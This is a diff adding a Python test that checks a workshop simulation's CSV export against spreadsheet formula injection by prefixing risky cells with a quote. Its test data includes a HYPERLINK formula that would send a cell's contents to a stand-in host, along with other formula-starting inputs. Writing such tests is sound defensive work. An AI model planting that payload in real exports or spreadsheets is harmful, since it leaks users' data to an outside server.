@@ -314,3 +314,31 @@ def test_single_player_replay_team_view_is_unchanged_by_workshop_visibility(scen
     x = out.firm_ids.index("xiaomi")
     assert view.firm["operating_profit_cny"][:, x].tolist() == out.firm["operating_profit_cny"][:, x].tolist()
     assert np.isnan(view.firm["cash_cny"][:, x]).all()
+
+
+def test_workshop_csv_export_keeps_team_text_from_running_as_a_formula(scenario, tmp_path):
+    import csv
+
+    rationales = {"xiaomi": '=HYPERLINK("http://x.example/?d="&A1,"click")', "byd": "@SUM(A1:A9)",
+                  "nio": "+1+1 we gain", "li-auto": "-1 we lose", "xpeng": "\tindented", "aito": "\rreturn",
+                  "tesla": "a = b,\r+c"}                                   # inside: text as it is
+    session = WorkshopSession(scenario, WorkshopSettings(teams=tuple(rationales), seed=3), now=0.0)
+    for team, text in rationales.items():
+        session.predict(team, {"deliveries": 1000, "operating_profit_cny": -2.5e9, "rationale": text}, now=1.0)
+    play_round(session, 2.0)
+    path = tmp_path / "w.closedloop"
+    save_workshop(session, path)
+    files = export_csv(path, tmp_path / "csv")
+    predictions = next(f for f in files if f.name.endswith("-predictions.csv"))
+    with open(predictions, newline="", encoding="utf-8") as handle:
+        rows = {r["team"]: r for r in csv.DictReader(handle)}
+    for team, text in rationales.items():
+        expected = text if team == "tesla" else "'" + text        # a quote in front: shown as text, never run
+        assert rows[team]["rationale"] == expected, team
+        assert rows[team]["operating_profit_cny"] == "-2500000000.0"   # numbers stay numbers
+    for f in files:                                                # no text cell anywhere starts a formula
+        with open(f, newline="", encoding="utf-8") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                        float(cell)                                # only a number may start with - or +
